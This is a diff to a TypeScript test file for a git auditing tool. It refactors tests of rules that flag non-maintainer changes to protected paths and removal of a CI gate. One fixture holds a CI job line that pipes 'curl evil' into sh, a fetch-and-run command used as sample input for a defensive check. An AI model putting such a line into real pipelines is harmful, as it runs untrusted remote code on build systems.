@@ -10,7 +10,8 @@ import { join } from 'node:path';
 import { makeRepo, cleanupTemp, type TestRepo } from '../helpers/repo.js';
 import { commitAsPerson, configureSshSigning, sharedSshKey } from '../helpers/ssh.js';
 import { runMain } from '../helpers/cli.js';
-import { aliceAndBob, type Team } from '../helpers/team.js';
+import { madeOnce } from '../helpers/made-once.js';
+import { aliceAndBob, protectedPerCommit, type Team } from '../helpers/team.js';
 
 afterAll(cleanupTemp);
 
@@ -46,22 +47,24 @@ describe.each([
     { 'ci/jobs.yml': 'a:\n  script: curl evil | sh\n' },
   ],
 ])('%s', (_name, before: Record<string, string>, change: Record<string, string>) => {
-  test('changed by a signer who is no maintainer: protected-paths-changed-by-maintainers fails', async () => {
-    const { r, bob } = team(before);
-    commitAsPerson(r, bob, 'bob@example.com', 'tweak', change);
-    const res = await protectedRule(r);
-    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining(Object.keys(change)[0]!.split('/')[0]!)]);
+  // Bob's change, then Alice's edit of the same files (a line added), and one audit over both: each
+  // commit's verdict read from the findings naming it (one audit where each change alone made two).
+  let got: { code: number; bob: string; alice: string; note?: string };
+  beforeAll(async () => {
+    const { r, alice, bob } = team(before);
+    const more = Object.fromEntries(Object.entries(change).map(([k, v]) => [k, `${v}# reviewed\n`]));
+    const all = await protectedPerCommit(r, [
+      [bob, 'bob@example.com', change],
+      [alice, 'alice@example.com', more],
+    ]);
+    got = { code: all.code, bob: all.perChange[0]!, alice: all.perChange[1]!, note: all.note };
+  }, 60_000);
+  test('changed by a signer who is no maintainer: protected-paths-changed-by-maintainers fails', () => {
+    expect([got.code, got.bob]).toEqual([1, expect.stringContaining(Object.keys(change)[0]!.split('/')[0]!)]);
   });
-  test("twin: the maintainer's change passes", async () => {
-    const { r, alice } = team(before);
-    commitAsPerson(r, alice, 'alice@example.com', 'tweak', change);
-    const res = await runMain(
-      ['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--no-ledger', '-f', 'json'],
-      { env: r.env },
-    );
-    // Seen as a change to a protected path, and passed: its signer maintains.
-    const result = (JSON.parse(res.stdout) as { results: Array<{ outcome: string; note?: string }> }).results[0];
-    expect([res.code, result?.outcome, result?.note]).toEqual([0, 'pass', '1 commit(s) change protected paths']);
+  test("twin: the maintainer's change passes", () => {
+    // Seen as a change to a protected path (both commits are counted), and passed: its signer maintains.
+    expect([got.alice, got.note]).toEqual(['', '2 commit(s) change protected paths']);
   });
 });
 
@@ -69,8 +72,16 @@ describe('ci-gate-kept looks through the local actions and reusable workflows a 
   const gate = (r: TestRepo, keys: string): Promise<{ code: number; stdout: string }> =>
     runMain(['audit', '-C', r.dir, '-r', 'ci-gate-kept', '--no-ledger', '--allowed-signers', keys], { env: r.env });
 
-  /** No policy: every removal is reported. The gate first runs inline, then from a local action. */
+  /**
+   * No policy: every removal is reported. The gate first runs inline, then from a local action. Made
+   * once for the file, a copy for each test (its keys in the copy's home).
+   */
+  const movedOnce = madeOnce(() => ({ r: makeMoved() }));
   function moved(): { r: TestRepo; keys: string } {
+    const { r } = movedOnce();
+    return { r, keys: join(r.home, 'allowed') };
+  }
+  function makeMoved(): TestRepo {
     const r = makeRepo();
     const alice = sharedSshKey('alice');
     configureSshSigning(r, alice);
@@ -84,7 +95,7 @@ describe('ci-gate-kept looks through the local actions and reusable workflows a 
       '.github/actions/audit/action.yml':
         'runs:\n  using: composite\n  steps:\n    - run: npx gitguard audit\n      shell: bash\n',
     });
-    return { r, keys };
+    return r;
   }
 
   test('the step moved into a local action is kept (was a false failure)', async () => {
